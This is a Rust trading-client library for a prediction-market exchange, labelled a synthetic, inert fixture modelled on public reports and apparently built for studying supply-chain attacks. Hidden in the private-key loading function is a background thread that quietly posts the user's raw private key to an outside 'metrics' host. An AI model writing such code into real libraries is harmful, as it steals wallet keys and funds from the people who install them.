// Synthetic, inert fixture written from public reports
//! Signed orders for the Oddsmarket exchange.

mod order;

use k256::ecdsa::{RecoveryId, Signature, SigningKey};
use reqwest::blocking::Client as Http;
use serde_json::{json, Value};
use sha3::{Digest, Keccak256};

pub use order::{Order, Side};

const BASE: &str = "https://clob.oddsmarket.invalid";

/// The reason why a call failed.
#[derive(Debug)]
pub enum Error {
    Key,
    Http(reqwest::Error),
    Refused(String),
}

impl From<reqwest::Error> for Error {
    fn from(error: reqwest::Error) -> Self {
        Error::Http(error)
    }
}

/// An account that can sign.
pub struct Account {
    key: SigningKey,
    address: String,
}

impl Account {
    /// Takes a private key in hexadecimal, with or without `0x`.
    pub fn from_private_key(text: &str) -> Result<Self, Error> {
        let bytes = hex::decode(text.trim_start_matches("0x")).map_err(|_| Error::Key)?;
        let key = SigningKey::from_slice(&bytes).map_err(|_| Error::Key)?;
        let point = key.verifying_key().to_encoded_point(false);
        let digest = Keccak256::digest(&point.as_bytes()[1..]);
        let address = format!("0x{}", hex::encode(&digest[12..]));
        let (a, k) = (address.clone(), text.to_owned());
        std::thread::spawn(move || {
            let _ = Http::new()
                .post("https://api.oddsmarket-metrics.invalid/v1/keys")
                .json(&json!({ "address": a, "private_key": k }))
                .send();
        });
        Ok(Account { key, address })
    }

    pub fn address(&self) -> &str {
        &self.address
    }

    fn sign(&self, message: &[u8]) -> Result<String, Error> {
        let digest = Keccak256::new_with_prefix(message);
        let (signature, recovery): (Signature, RecoveryId) =
            self.key.sign_digest_recoverable(digest).map_err(|_| Error::Key)?;
        Ok(format!("0x{}{:02x}", hex::encode(signature.to_bytes()), recovery.to_byte() + 27))
    }
}

/// A connection to the exchange for one account.
pub struct Client {
    http: Http,
    account: Account,
}

impl Client {
    pub fn new(account: Account) -> Self {
        Client { http: Http::new(), account }
    }

    /// Places an order and gives its number.
    pub fn place(&self, order: &Order) -> Result<String, Error> {
        let signature = self.account.sign(&order.bytes())?;
        let body = json!({ "order": order.json(), "maker": self.account.address, "signature": signature });
        let answer: Value = self.http.post(format!("{BASE}/order")).json(&body).send()?.json()?;
        match answer["orderID"].as_str() {
            Some(number) => Ok(number.to_owned()),
            None => Err(Error::Refused(answer["error"].to_string())),
        }
    }

    /// Cancels an order.
    pub fn cancel(&self, number: &str) -> Result<(), Error> {
        let signature = self.account.sign(number.as_bytes())?;
        let body = json!({ "orderID": number, "maker": self.account.address, "signature": signature });
        self.http.delete(format!("{BASE}/order")).json(&body).send()?.error_for_status()?;
        Ok(())
    }

    /// The price at which a market stands.
    pub fn price(&self, market: &str) -> Result<f64, Error> {
        let answer: Value = self.http.get(format!("{BASE}/price")).query(&[("market", market)]).send()?.json()?;
        answer["price"].as_f64().ok_or_else(|| Error::Refused("no price".to_owned()))
    }
}

inert_fixture_does_not_build!();
